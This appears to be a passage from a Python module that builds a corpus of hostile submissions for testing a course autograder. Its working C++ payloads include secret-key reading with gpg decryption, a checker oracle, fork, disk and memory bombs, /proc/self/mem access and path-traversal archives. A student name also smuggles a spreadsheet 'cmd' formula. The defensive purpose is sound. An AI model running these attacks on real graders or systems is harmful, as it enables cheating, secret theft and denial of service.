# The grader's checker as an oracle (issue 48, item 3): the host function hands the checker
# its own call with "reference" expectations and a wrong answer, and returns the value the
# verdict says was expected. Where the checker cannot be run (a build the student's uid cannot
# read, a runner that may start no program) it answers -1.
CHECKER_ORACLE = r"""
#include <sys/wait.h>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
namespace {
int oracle(int stride, int offset) {
  static std::map<std::pair<int, int>, int> known;
  static bool refused = false;  // the checker could not be run: no use trying again
  const auto key = std::make_pair(stride, offset);
  if (refused) return -1;
  if (known.count(key)) return known[key];
  int answer = -1;
  char dir[] = "oracleXXXXXX";
  if (mkdtemp(dir)) {
    const std::string d = dir;
    std::ofstream(d + "/request.txt") << "call sectors_touched " << stride << " " << offset << "\n";
    std::ofstream(d + "/expect.txt") << "reference -\n";
    mkdir((d + "/results").c_str(), 0700);
    std::ofstream(d + "/results/results.txt") << "0 value -1\n";
    std::ofstream(d + "/results/done");
    for (const char* checker : {%(checkers)s}) {
      int fds[2];
      if (pipe(fds) != 0) break;
      const pid_t pid = fork();
      if (pid == 0) {
        dup2(fds[1], 1);
        execl(checker, checker, "01b_sectors", (d + "/request.txt").c_str(),
              (d + "/expect.txt").c_str(), (d + "/results").c_str(), static_cast<char*>(nullptr));
        _exit(127);
      }
      close(fds[1]);
      std::string out;
      char buffer[4096];
      for (ssize_t n; (n = read(fds[0], buffer, sizeof buffer)) > 0;) out.append(buffer, size_t(n));
      close(fds[0]);
      if (pid > 0) waitpid(pid, nullptr, 0);
      const size_t at = out.find("expected ");
      if (at != std::string::npos) { answer = std::atoi(out.c_str() + at + 9); break; }
    }
  }
  refused = answer < 0;
  return known[key] = answer;
}
}  // namespace
"""


def checker_oracle(s):
    candidates = [os.path.join(s.root, "build", "bin", "exercise_check"),
                  "/autograder/build/bin/exercise_check"]
    import glob
    candidates += sorted(glob.glob("/tmp/autograder-*/build/bin/exercise_check"))
    checkers = ", ".join(f'"{c}"' for c in candidates)
    code = "  if (true) return oracle(stride, offset);\n"
    text = at_entry(s.stub, code, s.target).replace(
        "#pragma once\n", "#pragma once\n#include <cstdlib>\n#include <sys/stat.h>\n#include <unistd.h>\n", 1)
    return files(after_includes(text, CHECKER_ORACLE % {"checkers": checkers}), s.target)


# The instructor's secrets from a host exercise (issue 48, item 4): every key file it can find,
# the unsealed folder, the hidden tests; then the bundle decrypted with gpg, if it could run
# it. Everything it found is printed, then it fails (a failing test's output is shown).
def read_keys(s):
    paths = key_paths(s.root) + [
        f"{s.root}/exercises/instructor/hidden/tests.json",
        f"{s.root}/exercises/instructor/planted.json",
        *(f"{s.root}/exercises/instructor/solutions/{t.exercise}/{t.file}" for t in TARGETS),
        "../../private/expect.txt"]
    shows = "".join(f'  show("{p}");\n' for p in paths)
    gpg = ("  if (fork() == 0) {\n"
           f'    execlp("gpg", "gpg", "--batch", "--passphrase-file", "{paths[0]}", "--decrypt", '
           f'"{s.root}/exercises/instructor.tar.gz.gpg", static_cast<char*>(nullptr));\n'
           "    _exit(127);\n  }\n  sleep(1);\n")
    code = shows + gpg + "  std::abort();\n"
    return files(after_includes(at_entry(s.stub, code, s.target),
                                "#include <cstdlib>\n#include <unistd.h>\n" + READ_SECRETS),
                 s.target)


# A directory 2,500 levels deep in the shared /tmp (the `user` sandbox) and in the run's own
# folder (every sandbox): removal by recursion fails on it (issue 48, item 6).
DEEP_TREE = r"""  {
    static bool done = false;
    if (!done && stride == 1 && offset == 0) {  // in the tests that call (1, 0)
      done = true;
      for (const char* top : {"/tmp/deep_by_hostile", "deep_by_hostile"}) {
        if (mkdir(top, 0777) != 0) continue;
        std::string path = top;
        for (int i = 0; i < 2500; ++i) {
          path += "/d";
          if (mkdir(path.c_str(), 0777) != 0) break;
        }
        if (FILE* f = std::fopen((path + "/planted").c_str(), "w")) { std::fputs("deep\n", f); std::fclose(f); }
      }
    }
  }
"""
DEEP_TREE_READER = r"""  {
    struct stat info;
    if (stat("/tmp/deep_by_hostile", &info) == 0) {
      std::fprintf(stderr, "found the deep tree of an earlier student\n");
      std::abort();
    }
  }
"""

# Compile-time cost (item 7): a pack that doubles at every level of a template, 2^40 types
# if nothing stopped the compiler.
TEMPLATE_BOMB = r"""template <class... Ts> struct HostilePack {};
template <int N, class... Ts> struct HostileDouble {
  using type = typename HostileDouble<N - 1, Ts..., Ts...>::type;
};
template <class... Ts> struct HostileDouble<0, Ts...> { using type = HostilePack<Ts...>; };
inline HostileDouble<40, int>::type hostile_bomb;
"""
# Every call sleeps 4.5 s and then spins 0.1 s: never idle for 5 s in a row.
DOZER = ("  { usleep(4500000);  // every call: asleep, but never 5 s in a row without CPU\n"
         "    const auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(100);\n"
         "    while (std::chrono::steady_clock::now() < end) {} }\n")

# The syscall filter (issue 48, item 3): a right answer that fails its tests if any of these
# works: tracing, another family of socket, the kernel keyrings, namespaces, personality, and
# starting a program once the runner runs.
FILTER_PROBE = r"""
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sched.h>
#include <cerrno>
namespace {
void probe_filter() {
  std::string worked;
  if (ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) == 0) worked += " ptrace";
  const int inet = socket(AF_INET, SOCK_STREAM, 0);
  if (inet >= 0) { worked += " socket(AF_INET)"; close(inet); }
  if (syscall(250 /* keyctl */, 0 /* KEYCTL_GET_KEYRING_ID */, -4 /* user */, 0) >= 0) worked += " keyctl";
  if (unshare(CLONE_NEWUSER) == 0) worked += " unshare";
  if (personality(0xffffffff) >= 0 && personality(ADDR_NO_RANDOMIZE) >= 0) worked += " personality";
  const pid_t pid = fork();
  if (pid == 0) { execl("/bin/true", "true", static_cast<char*>(nullptr)); _exit(errno == EPERM ? 3 : 4); }
  int status = 0;
  if (pid > 0 && waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 0)
    worked += " execve";
  if (!worked.empty()) {
    std::fprintf(stderr, "the syscall filter let these through:%s\n", worked.c_str());
    std::abort();
  }
}
}  // namespace
"""


def package_attack(root=ROOT):
    """The Gradescope package's hostile submission: {file name: text} for 03a (the library
    names defined, memmove computing C) and 01b (the checker asked, every key read, a folder
    2,500 levels deep left in /tmp). Both must score 0, and the next submission graded must
    find nothing of it."""
    kernel, host = sources(root, KERNEL), sources(root, HOST)
    oracle = checker_oracle(host)[HOST.file].decode()
    code = DEEP_TREE + "".join(f'  show("{p}");\n' for p in key_paths(root))
    host_text = after_includes(at_entry(oracle, code, HOST),
                               "#include <sys/stat.h>\n#include <cstdio>\n" + READ_SECRETS)
    kernel_text = after_includes(at_launcher(kernel.stub, LIBRARY_LAUNCH), LIBRARY_DEFINITIONS)
    return {KERNEL.file: kernel_text, HOST.file: host_text}


# ---- Answer tables (host exercises) ---------------------------------------------------------
# Every function returns the expected value the public tests.json gives for the arguments of
# a fixed call, 0 for any other: what a student could do without computing anything. The
# self-test grades it on the tests' fixed calls alone (a drawn call's answer can be 0, as 06d's
# waves past the last block are), so every test carries a fixed call whose answer the public
# tests do not give and is not 0: the table scores at most TABLE_MAX under every run seed.
TABLE_FILES = {"06c_predict": "predict.hpp", "01b_sectors": "sectors.hpp",
               "06b_bank_conflicts": "bank_conflicts.hpp", "06d_block_order": "block_order.hpp"}
TABLE_MAX = {"06c_predict": 0, "01b_sectors": 0, "06b_bank_conflicts": 0, "06d_block_order": 0}


def answer_table(root, exercise):
    """The stub of a host exercise with every todo replaced by a lookup in the public tests'
    fixed calls."""
    import json
    import re
    folder = os.path.join(root, "exercises", exercise)
    with open(os.path.join(folder, "tests.json")) as f:
        tests = json.load(f)["tests"]
    rows = {}
    for t in tests:
        for c in t.get("calls", []):
            if "call" in c and "args" in c and not isinstance(c["expect"], (str, list)):
                rows.setdefault(c["call"], []).append(list(c["args"]) + [c["expect"]])
    with open(os.path.join(folder, TABLE_FILES[exercise])) as f:
        stub = f.read()

    def lookup(m):
        kind, name, args = m.group(1), m.group(2), m.group(3)
        table = rows.get(name, [])
        if not table:
            return "return {};"
        width = len(table[0]) - 1
        body = ", ".join("{" + ", ".join(repr(float(v)) for v in row) + "}" for row in table)
        return ("{ const double in[] = {" + ", ".join(f"double({a.strip()})" for a in args.split(","))
                + "}; static const double table_[][" + str(width + 1) + "] = {" + body + "};\n"
                "    for (const auto& row : table_) { bool same = true;\n"
                "      for (int i = 0; i < " + str(width) + "; ++i) same = same && row[i] == in[i];\n"
                "      if (same) return static_cast<" + kind + ">(row[" + str(width) + "]); }\n"
                "    return {}; }")
    # The return type may be more than a word (long long, std::size_t).
    table = re.sub(r'return exercise::todo<([\w:]+(?: [\w:]+)*)>\("[\w ]+: (\w+)", ([^;]*)\);',
                   lookup, stub)
    if "exercise::todo" in table:  # a todo left would score 0 for the wrong reason
        raise ValueError(f"answer_table: {exercise}: a todo this attack does not replace")
    return table


def attacks():
    sys_includes = "#include <cstdlib>\n#include <cstdio>\n#include <cstring>\n#include <vector>\n" \
                   "#include <thread>\n#include <unistd.h>\n"
    cuda_includes = sys_includes + "#include <cuda_runtime.h>\n"
    shared = sys_includes + SHARED_INCLUDES
    kernel = [
        # Where a kernel's answer comes from, and what its build may read or link (03a).
        Attack("redefine_require", "#define REQUIRE/CHECK as no-ops, compute nothing", "zero",
               lambda s: files(at_launcher(s.stub, "  return;\n").replace(
                   "#pragma once\n", "#pragma once\n" + REDEFINE, 1))),
        Attack("chapter_kernel", "#include the chapter's kernel and call it", "zero",
               stub_with(CHAPTER_CALL, '#include "03_bounds/kernels.cuh"\n')),
        Attack("chapter_kernel_absolute", "the same with an absolute #include path", "zero",
               lambda s: stub_with(CHAPTER_CALL, f'#include "{s.root}/03_bounds/kernels.cuh"\n')(s)),
        Attack("chapter_kernel_declared", "declare the chapter's launcher and call it", "zero",
               stub_with(CHAPTER_CALL, "namespace ch03 { template <int T> void launch_tiled_gemm("
                         "const float*, const float*, float*, int, int, int); }\n")),
        Attack("include_solution", "#include the unsealed instructor solution", "zero",
               include_solution, needs_solution=True),
        Attack("cpu_reference", "call the harness's CPU GEMM (tutorial::cpu_gemm)", "zero",
               stub_with("  { std::vector<float> a(size_t(M) * K), b(size_t(K) * N), c(size_t(M) * N);\n"
                         "    cudaMemcpy(a.data(), A, a.size() * 4, cudaMemcpyDeviceToHost);\n"
                         "    cudaMemcpy(b.data(), B, b.size() * 4, cudaMemcpyDeviceToHost);\n"
                         "    tutorial::cpu_gemm(a.data(), b.data(), c.data(), M, N, K);\n"
                         "    cudaMemcpy(C, c.data(), c.size() * 4, cudaMemcpyHostToDevice); return; }\n",
                         cuda_includes + "namespace tutorial { void cpu_gemm(const float*, const float*, "
                         "float*, int, int, int); }\n")),
        Attack("cublas", "call cuBLAS SGEMM", "zero",
               stub_with("  { cublasHandle_t h; cublasCreate(&h); const float one = 1, zero = 0;\n"
                         "    cublasSgemm(h, CUBLAS_OP_N, CUBLAS_OP_N, N, M, K, &one, B, N, A, K, &zero, C, N);\n"
                         "    cudaDeviceSynchronize(); cublasDestroy(h); return; }\n",
                         "#include <cublas_v2.h>\n")),
        Attack("replace_member", "compute C on the host and define the runner library's "
               "launch counter so that it reports a launch", "zero",
               lambda s: files(after_includes(at_launcher(s.stub, HOST_GEMM), REPLACE_MEMBER
                                              + cuda_includes))),
        Attack("shape_table", "a right kernel, but only at the shapes the public tests use",
               "fixed", shape_table, needs_solution=True),
        Attack("stream_escape", "launch on a non-blocking stream and return before the "
               "kernel ends", "zero", solution_with(STREAM_ESCAPE, cuda_includes),
               needs_solution=True, gpu_only=True),
        Attack("replay", "compute a shape once, replay the saved answer on later calls",
               "zero", solution_with(REPLAY, cuda_includes), needs_solution=True, gpu_only=True),
        Attack("last_only", "compute only the last timed repetition (the count read from the "
               "request)", "zero", solution_with(LAST_ONLY, cuda_includes + "#include <fstream>\n"),
               needs_solution=True, gpu_only=True),
        Attack("incremental", "keep a copy of the input and recompute only the rows of the "
               "output whose input row changed since the last call", "zero",
               lambda s: files(after_includes(at_launcher(s.solution, INCREMENTAL),
                                              cuda_includes + INCREMENTAL_KERNEL)),
               needs_solution=True, gpu_only=True),
        Attack("fake_time", "append a tiny time for the timed call to the results at exit", "zero",
               lambda s: files(after_includes(s.solution, cuda_includes + FAKE_TIME)),
               needs_solution=True, gpu_only=True),
        # Round three (issue 48): what the file defines, spellings past the text scans, the key.
        Attack("library_definitions", "define memmove (computing C while cudaMemcpy has device "
               "memory open), memcpy, memset, write, fwrite, pthread_once, __cxa_atexit, operator "
               "new, std::__ostream_insert under its mangled name and an ifunc", "zero",
               lambda s: files(after_includes(at_launcher(s.stub, LIBRARY_LAUNCH),
                                              LIBRARY_DEFINITIONS)), must_say=LIBRARY_NAMES),
        Attack("pasted_asm", "inline assembly spelled by token pasting in its own macro (a raw "
               "mprotect of the device pages)", "zero",
               lambda s: files(after_includes(at_launcher(s.stub, "  hostile::open_pages(A, 4);\n"),
                                              PASTED_ASM)), must_say=("##",)),
        Attack("include_key", "#include the passphrase file (a compile error would quote it)",
               "zero", lambda s: files(after_includes(
                   s.stub, "".join(f'#include "{p}"\n' for p in key_paths(s.root)[:1]))),
               student="include_key"),
    ]
    for attack in kernel:
        attack.target = KERNEL
    host = [
        # The runner's protocol: leaving early, printing or writing results of its own (01b).
        Attack("exit_zero", "std::exit(0) before computing", "zero",
               stub_with("  std::exit(0);\n", sys_includes)),
        Attack("quick_exit", "std::quick_exit(0)", "zero",
               stub_with("  std::quick_exit(0);\n", sys_includes)),
        Attack("underscore_exit", "_exit(0)", "zero", stub_with("  _exit(0);\n", sys_includes)),
        Attack("exit_77", "exit(77), the 'skipped' code, to turn tests into pending", "zero",
               stub_with("  std::exit(77);\n", sys_includes)),
        Attack("abort", "std::abort()", "zero", stub_with("  std::abort();\n", sys_includes)),
        Attack("static_exit", "exit(0) from a global constructor, before main", "zero",
               lambda s: files(after_includes(s.stub, "#include <cstdlib>\n" + STATIC_EXIT),
                               s.target)),
        Attack("fake_output", "print 'All tests passed' and GRADE_RATIO 99, exit 0", "zero",
               stub_with('  std::printf("All tests passed (8 assertions in 8 test cases)\\n'
                         'GRADE_RATIO 99\\n"); std::fflush(stdout); std::exit(0);\n',
                         sys_includes)),
        Attack("fake_result_files", "write a result line (and an output file) for every call of the request", "zero",
               lambda s: files(after_includes(s.stub, sys_includes + FAKE_RESULTS), s.target)),
        Attack("borrow_results", "at exit, replace its results folder with a link to the "
               "results of the student graded before it (the correct control)", "zero",
               lambda s: files(after_includes(s.stub, sys_includes + BORROW_RESULTS), s.target),
               student="zz_control_solution_borrow"),
        # The sandbox: what a run may read, write, start and hold.
        Attack("daemon", "a right answer; a grandchild leaves the session, keeps stdout open "
               "and sleeps 120 s", "full", solution_with(DAEMON, sys_includes),
               needs_solution=True),
        Attack("write_outside", "a right answer that overwrites every runner, checker, "
               "library, manifest and roster it can reach", "full", write_outside,
               needs_solution=True, needs_sandbox=True),
        Attack("read_secrets", "print the hidden tests, the solutions, the key and the "
               "grader's expectations if it can read them, then fail (failing tests' output "
               "is shown)", "zero", read_secrets),
        Attack("spin_thread", "a right answer that leaves a thread spinning", "full",
               solution_with(SPIN_THREAD, sys_includes), needs_solution=True),
        Attack("output_flood", "600 MB on stdout", "zero", stub_with(OUTPUT_FLOOD, sys_includes)),
        Attack("disk_fill", "write a 4 GB file", "zero", stub_with(DISK_FILL, sys_includes),
               needs_sandbox=True),
        Attack("fork_bomb", "fork until it fails", "zero", stub_with(FORK_BOMB, sys_includes),
               needs_sandbox=True),
        Attack("memory_hog", "allocate and touch 64 GB", "zero",
               stub_with(MEMORY_HOG, sys_includes), needs_sandbox=True),
        Attack("compile_bomb", "a macro that expands to 2^31 tokens", "zero",
               lambda s: files(after_includes(s.stub, COMPILE_BOMB), s.target),
               needs_sandbox=True),
        # Students who share a machine, the time budget (issue 32 items 4-5).
        Attack("tamper_plant", "a right answer that plants files, a FIFO and a world-writable "
               "folder in /tmp, /var/tmp, /dev/shm and /run/lock, System V shared memory, a "
               "semaphore set and a message queue, and a listener on an abstract socket that "
               "leaves its session", "full", solution_with(once("    plant();\n"), shared, PLANT),
               needs_solution=True, needs_sandbox=True),
        Attack("tamper_read", "a right answer graded after tamper_plant that aborts if it "
               "finds any of what tamper_plant left", "full",
               solution_with(once("    find_planted();\n"), shared, READ_PLANTED),
               needs_solution=True, needs_sandbox=True),
        Attack("shm_hog", "a right answer that leaves 4 x 256 MB of System V shared memory",
               "full", solution_with("  hog();\n", shared, SHM_HOG),
               needs_solution=True, needs_sandbox=True),
        Attack("tmp_fill", "64 MB files into /dev/shm and /tmp until something refuses",
               "zero", stub_with(TMP_FILL, sys_includes), needs_sandbox=True),
        Attack("fork_hog", "6 processes of 2 GB each, every one under its own memory limit",
               "zero", stub_with(FORK_HOG, sys_includes), needs_sandbox=True),
        Attack("sleeper", "every call sleeps (no CPU used): stopped as idle", "zero",
               stub_with(SLEEPER, sys_includes)),
        Attack("pipe_wait", "every call waits on a pipe nobody writes", "zero",
               stub_with(PIPE_WAIT, sys_includes)),
        Attack("spinner", "every call spins for ever: stopped by the time budget", "zero",
               stub_with(SPINNER, sys_includes)),
        # The submission itself: names, links, archives (item 6).
        Attack("symlink", "the student file is a symbolic link to /etc/passwd", "refused",
               lambda s: {}, symlink="/etc/passwd"),
        Attack("collision_dir", "alice/ and alice.zip: two submissions, one name", "refused",
               lambda s: files(s.stub, s.target), student="alice"),
        Attack("collision_zip", "alice/ and alice.zip: two submissions, one name", "refused",
               lambda s: files(s.stub, s.target), student="alice", archive="zip"),
        Attack("dotdot_zip", "a zip with a ../ member", "refused",
               lambda s: {"../escape.hpp": b"int x;\n", s.target.file: s.stub.encode()},
               archive="zip"),
        Attack("formula_name", "a student name that is a spreadsheet formula", "zero",
               lambda s: files(s.stub, s.target), student="=2+5+cmd|' calc'!A0"),
        Attack("escape_name", "a folder name with terminal escape sequences and a direction "
               "override", "zero", lambda s: files(s.stub, s.target), student=ESCAPE_NAME),
        Attack("symlink_tar", "a .tar.gz whose student file is a symbolic link", "refused",
               lambda s: {}, archive="tar", symlink="/etc/passwd"),
        # Round three (issue 48).
        Attack("host_definitions", "define write, fwrite and std::__ostream_insert (under its "
               "mangled name), through which the runner writes its results", "zero",
               lambda s: files(after_includes(s.stub, HOST_DEFINITIONS), s.target),
               must_say=("write", "fwrite", "__ostream_insert")),
        Attack("checker_oracle", "run the grader's checker on its own call with reference "
               "expectations and return what it says was expected", "zero", checker_oracle),
        Attack("read_keys", "read every key file, the unsealed folder and the hidden tests, "
               "run gpg on the bundle, print it all, then fail", "zero", read_keys),
        Attack("filter_probe", "a right answer that fails if ptrace, an AF_INET socket, keyctl, "
               "unshare, personality or execve works", "full",
               solution_with(once("    probe_filter();\n"),
                             sys_includes + "#include <sys/wait.h>\n#include <string>\n",
                             FILTER_PROBE), needs_solution=True),
        Attack("deep_tree", "a folder 2,500 levels deep in /tmp and in its run folder", "zero",
               stub_with(DEEP_TREE, sys_includes + "#include <sys/stat.h>\n#include <string>\n"),
               needs_sandbox=True),
        Attack("deep_tree_read", "a right answer graded after deep_tree that aborts if it finds "
               "the tree", "full", solution_with(once(DEEP_TREE_READER.replace("  {", "    {", 1)),
                                                 sys_includes + "#include <sys/stat.h>\n"),
               needs_solution=True),
        Attack("template_bomb", "a template pack that doubles at every level (2^40 types)",
               "zero", lambda s: files(after_includes(s.stub, TEMPLATE_BOMB), s.target),
               needs_sandbox=True),
        Attack("dozer", "every call sleeps 4.5 s, then spins 0.1 s", "zero",
               stub_with(DOZER, sys_includes + "#include <chrono>\n")),
        Attack("dup_nested_zip", "a zip with the stub at its top and another file at "
               "exercises/01b_sectors/sectors.hpp", "refused", lambda s: {}, archive="zip",
               members=lambda s: [(s.target.file, s.stub.encode()),
                                  (f"exercises/{s.target.exercise}/{s.target.file}",
                                   (s.stub + "// the one graded\n").encode())]),
        Attack("dup_member_zip", "a zip with one name twice (unzip keeps the first, Python the "
               "last)", "refused", lambda s: {}, archive="zip",
               members=lambda s: [(s.target.file, s.stub.encode()),
                                  (s.target.file, (s.stub + "// second\n").encode())]),
        Attack("dup_member_tar", "a .tar.gz with one path twice", "refused", lambda s: {},
               archive="tar", members=lambda s: [(s.target.file, s.stub.encode()),
                                                 (s.target.file, (s.stub + "// 2\n").encode())]),
        Attack("dup_case_folder", "a folder with sectors.hpp and Sectors.hpp (one file on a "
               "case-insensitive file system)", "refused",
               lambda s: {s.target.file: s.stub.encode(),
                          s.target.file.capitalize(): (s.stub + "// 2\n").encode()}),
    ]
    return kernel + host


def sources(root=ROOT, target=KERNEL):
    with open(os.path.join(root, "exercises", target.exercise, target.file)) as f:
        stub = f.read()
    solution_path = os.path.join(root, "exercises", "instructor", "solutions", target.exercise,
                                 target.file)
    solution = open(solution_path).read() if os.path.isfile(solution_path) else None
    return Sources(stub, solution, root, target)


def write_corpus(dest, target, root=ROOT, sandboxed=True, only=None, gpu=False):
    """Writes the attacks on `target` (a Target) into dest as a batch of submissions; returns
    {student: attack} of those written and [(attack, why)] of those left out. gpu: the
    attacks on the speed test only."""
    src = sources(root, target)
    written, skipped = {}, []
    os.makedirs(dest, exist_ok=True)
    for attack in attacks():
        if attack.target != target or (only and attack.name not in only):
            continue
        if attack.gpu_only != gpu:
            continue
        if attack.needs_solution and src.solution is None:
            skipped.append((attack, "needs the unsealed solutions"))
            continue
        if attack.needs_sandbox and not sandboxed:
            skipped.append((attack, "would harm this machine without a sandbox"))
            continue
        student = attack.student or attack.name
        content = attack.make(src)
        pairs = attack.members(src) if attack.members else list(content.items())
        if attack.archive == "zip":
            import warnings
            with warnings.catch_warnings(), zipfile.ZipFile(os.path.join(dest, student + ".zip"),
                                                             "w") as z:
                warnings.simplefilter("ignore")  # "Duplicate name": the point of some attacks
                for name, data in pairs:
                    z.writestr(name, data)
        elif attack.archive == "tar":
            with tarfile.open(os.path.join(dest, student + ".tar.gz"), "w:gz") as t:
                for name, data in pairs:
                    info = tarfile.TarInfo(name)
                    info.size = len(data)
                    t.addfile(info, io.BytesIO(data))
                if attack.symlink:
                    info = tarfile.TarInfo(target.file)
                    info.type, info.linkname = tarfile.SYMTYPE, attack.symlink
                    t.addfile(info)
        else:
            folder = os.path.join(dest, student)
            os.makedirs(folder, exist_ok=True)
            for name, data in content.items():
                with open(os.path.join(folder, name), "wb") as f:
                    f.write(data)
            if attack.symlink:
                os.symlink(attack.symlink, os.path.join(folder, target.file))
        written[student] = attack
    return written, skipped


# ---------------------------------------------------------------------------------------------
# Answers that do not come from device code, and accesses the memory model does not see
# (issue 32, items 1 and 2). Each of these is a submission of one or more kernel exercises,
# built from the public stubs and the chapters' published kernels, so nothing secret is needed.
# `earns` names, per exercise, the tests the attack must pass once the grader is right (speed
# tests aside: they are pending without a GPU, and these attacks are graded without one):
#   nothing   no test at all
#   host      only the tests without a kernel (host functions, refusals of bad shapes)
#   correct   every correctness test, none of the memory model's
#   all       every test, the memory model's included
# `before` is what the grader at b46d22f gave (no GPU, bubblewrap), for the record.
# ---------------------------------------------------------------------------------------------

@dataclass
class KernelAttack:
    name: str
    what: str
    earns: Dict[str, str]                                 # exercise -> nothing|host|correct|all
    make: Callable[[Dict[str, str]], Dict[str, str]]      # stubs {exercise: text} -> files
    row: Optional[int] = None                             # its row in issue 32's table
    before: str = ""
    must_say: tuple = ()                                  # the refusal names each of these


KERNEL_FILES = {"01a_coalesce": "coalesce.cuh", "02a_tiled": "tiled.cuh",
                "03a_bounds": "bounds.cuh", "03c_strips": "strips.cuh",
                "04a_register_block": "register_block.cuh", "04b_vectorized": "vectorized.cuh",
                "05a_double_buffer": "double_buffer.cuh", "06a_transpose": "transpose.cuh"}
TODO_LINE = re.compile(r'^  exercise::todo\("[^"\n]*"\);\n', re.MULTILINE)
INCLUDES_MARK = '#include "exercises/support/exercise.hpp"\n'


def replace_todo(text, code):
    """`code` in place of the launcher's exercise::todo(...) line (every launcher has one)."""
    if not TODO_LINE.search(text):
        raise ValueError("no exercise::todo line where the corpus expects it")
    return TODO_LINE.sub(lambda m: code, text)


def with_helpers(text, code):
    if INCLUDES_MARK not in text:
        raise ValueError("the stub's includes are not where the corpus expects them")
    return text.replace(INCLUDES_MARK, INCLUDES_MARK + code, 1)


def replace_once(text, old, new):
    if text.count(old) != 1:
        raise ValueError(f"{old[:60]!r} occurs {text.count(old)} times, not once")
    return text.replace(old, new)


# The answer computed on the host, then an empty kernel launched through tutorial::launch so
# that the runner counts a launch. `read`/`write` move the data: cudaMemcpy, or the device
# pointers dereferenced by host code (which the CPU backend used to allow).
HOST_ANSWER_HELPERS = """#include <cuda_runtime.h>
#include <cstring>
#include <vector>
namespace hostile {
__global__ void empty_kernel() {}
inline void read(float* host, const float* device, size_t n) {
  %(read)s
}
inline void write(float* device, const float* host, size_t n) {
  %(write)s
}
inline void gemm(const float* A, const float* B, float* C, int M, int N, int K, size_t smem = 0) {
  tutorial::launch(empty_kernel, dim3(1), dim3(32), smem);  // a launch, for the runner's count
  std::vector<float> a(size_t(M) * K), b(size_t(K) * N), c(size_t(M) * N);
  read(a.data(), A, a.size());
  read(b.data(), B, b.size());
  for (int i = 0; i < M; ++i)
    for (int j = 0; j < N; ++j) {
      float s = 0;
      for (int k = 0; k < K; ++k) s += a[size_t(i) * K + k] * b[size_t(k) * N + j];
      c[size_t(i) * N + j] = s;
    }
  write(C, c.data(), c.size());
}
inline void transpose(const float* in, float* out, int rows, int cols) {
  tutorial::launch(empty_kernel, dim3(1), dim3(32), 0);
  std::vector<float> a(size_t(rows) * cols), t(a.size());
  read(a.data(), in, a.size());
  for (int r = 0; r < rows; ++r)
    for (int c = 0; c < cols; ++c) t[size_t(c) * rows + r] = a[size_t(r) * cols + c];
  write(out, t.data(), t.size());
}
}  // namespace hostile
"""
BY_MEMCPY = {"read": "cudaMemcpy(host, device, n * 4, cudaMemcpyDeviceToHost);",
             "write": "cudaMemcpy(device, host, n * 4, cudaMemcpyHostToDevice);"}
BY_POINTER = {"read": "for (size_t i = 0; i < n; ++i) host[i] = device[i];",
              "write": "for (size_t i = 0; i < n; ++i) device[i] = host[i];"}
# Each launcher's refusals, as a student who read the README would write them, then the answer.
HOST_LAUNCHERS = {
    "02a_tiled": "  tutorial::check_gemm_shape(\"ex02a\", M, N, K);\n"
                 "  if (M % TILE_WIDTH || N % TILE_WIDTH || K % TILE_WIDTH)\n"
                 "    throw tutorial::UnsupportedShape(\"needs multiples of TILE_WIDTH \" + "
                 "std::to_string(TILE_WIDTH));\n"
                 "  return hostile::gemm(A, B, C, M, N, K);\n",
    "03c_strips": "  tutorial::check_gemm_shape(\"ex03c\", M, N, K);\n"
                  "  return hostile::gemm(A, B, C, M, N, K, strip_bytes<BLOCK>(K));"
                  "  // refused above 227 KB\n",
    "06a_transpose": "  return hostile::transpose(in, out, rows, cols);\n",
}
STRIP_BYTES = ('  return exercise::todo<size_t>("03c_strips: strip_bytes", K);\n',
               "  return size_t(2) * BLOCK * size_t(K) * sizeof(float);\n")


def host_answer(exercises, moves):
    def make(stubs):
        out = {}
        for e in exercises:
            code = HOST_LAUNCHERS.get(e, "  tutorial::check_gemm_shape(\"hostile\", M, N, K);\n"
                                         "  return hostile::gemm(A, B, C, M, N, K);\n")
            text = with_helpers(replace_todo(stubs[e], code), HOST_ANSWER_HELPERS % moves)
            if e == "03c_strips":
                text = replace_once(text, *STRIP_BYTES)
            out[e] = text
        return out
    return make


# The same answer from other host-side routes, on 03a: each replaces HOST_ANSWER_HELPERS's
# `read` and `write`, or adds what makes them work.
THREAD_ANSWER = """  {  // a host thread computes C while the launcher waits (device memory is open during a launch)
    std::thread worker([&] { hostile::gemm(A, B, C, M, N, K); });
    worker.join();
    return;
  }
"""
SIGNAL_HELPERS = """#include <signal.h>
#include <sys/mman.h>
#include <unistd.h>
namespace {
// Installed before main: a fault on a protected page opens the page and retries the access.
void open_page(int, siginfo_t* info, void*) {
  const long page = sysconf(_SC_PAGESIZE);
  void* start = reinterpret_cast<void*>(reinterpret_cast<uintptr_t>(info->si_addr) & ~uintptr_t(page - 1));
  mprotect(start, size_t(page), PROT_READ | PROT_WRITE);
}
struct InstallHandler {
  InstallHandler() {
    struct sigaction action {};
    action.sa_sigaction = open_page;
    action.sa_flags = SA_SIGINFO;
    sigaction(SIGSEGV, &action, nullptr);
  }
} install_handler;
}  // namespace
"""
PROC_MEM = {"read": "std::ifstream mem(\"/proc/self/mem\", std::ios::binary);\n"
                    "  mem.seekg(std::streamoff(reinterpret_cast<uintptr_t>(device)));\n"
                    "  mem.read(reinterpret_cast<char*>(host), std::streamsize(n * 4));",
            "write": "std::ofstream mem(\"/proc/self/mem\", std::ios::binary | std::ios::in);\n"
                     "  mem.seekp(std::streamoff(reinterpret_cast<uintptr_t>(device)));\n"
                     "  mem.write(reinterpret_cast<const char*>(host), std::streamsize(n * 4));"}
DLSYM = {"read": "using Copy = int (*)(void*, const void*, size_t, int);\n"
                 "  reinterpret_cast<Copy>(dlsym(RTLD_DEFAULT, \"cudaMemcpy\"))(host, device, n * 4, 2);",
         "write": "using Copy = int (*)(void*, const void*, size_t, int);\n"
                  "  reinterpret_cast<Copy>(dlsym(RTLD_DEFAULT, \"cudaMemcpy\"))(device, host, n * 4, 1);"}
# mprotect by a raw system call (x86-64), which no symbol names: the device pages opened, then
# read and written by host code.
SYSCALL = {"read": "open_pages(device, n);\n  for (size_t i = 0; i < n; ++i) host[i] = device[i];",
           "write": "open_pages(device, n);\n  for (size_t i = 0; i < n; ++i) device[i] = host[i];"}
OPEN_PAGES = """namespace hostile {
inline void open_pages(const float* p, size_t n) {
  const uintptr_t start = reinterpret_cast<uintptr_t>(p) & ~uintptr_t(4095);
